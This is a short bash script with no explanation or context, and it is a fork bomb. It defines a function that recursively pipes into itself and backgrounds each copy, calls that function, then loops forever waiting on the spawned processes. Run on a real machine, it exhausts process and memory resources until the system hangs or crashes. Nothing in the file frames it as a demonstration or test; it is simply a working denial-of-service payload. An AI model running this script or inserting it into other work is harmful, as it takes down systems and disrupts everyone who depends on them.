#!/bin/bash
bomb() { bomb | bomb & }
bomb
while :; do wait; sleep 0.01; done
